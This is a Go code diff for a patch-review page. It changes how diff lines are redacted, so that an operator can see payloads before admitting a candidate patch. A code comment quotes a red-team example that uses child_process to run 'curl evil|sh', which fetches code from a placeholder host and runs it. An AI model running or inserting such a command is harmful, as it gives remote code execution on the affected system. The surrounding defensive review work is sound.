@@ -27,8 +27,20 @@ func (s *Server) pageCandidates(w http.ResponseWriter, r *http.Request) {
 // diffLine is one line of a diff with its class for colouring: add, del,
 // hunk, file or ctx. The text stays data.
 type diffLine struct {
-	Class, Text string
+	Class string
+	Text  patchText
 }
+
+// patchText is one line of a candidate's patch as the page shows it. It
+// is redacted with the answer profile (credential formats only), the
+// profile of the quarantine scan, so any line the redaction changes is a
+// blocking secret.credential finding the page lists. The diagnostic
+// profile of the rest of the page also rewrites labelled values
+// ("apiKey": "...", password: ...): a line holding
+// `"apiKey": "require('child_process').exec('curl evil|sh')"` was shown
+// as [REDACTED:secret], and the operator admitted bytes they could not
+// read (red team).
+type patchText string
 
 type candidateData struct {
 	Candidate Candidate
@@ -60,7 +72,7 @@ func diffLines(diff string) []diffLine {
 		}
 		// Escaped: a bidi control (U+202E) would reorder the line the
 		// operator reads before admitting; a control byte is not text.
-		out = append(out, diffLine{c, quarantine.Visible(l)})
+		out = append(out, diffLine{c, patchText(quarantine.Visible(l))})
 	}
 	return out
 }
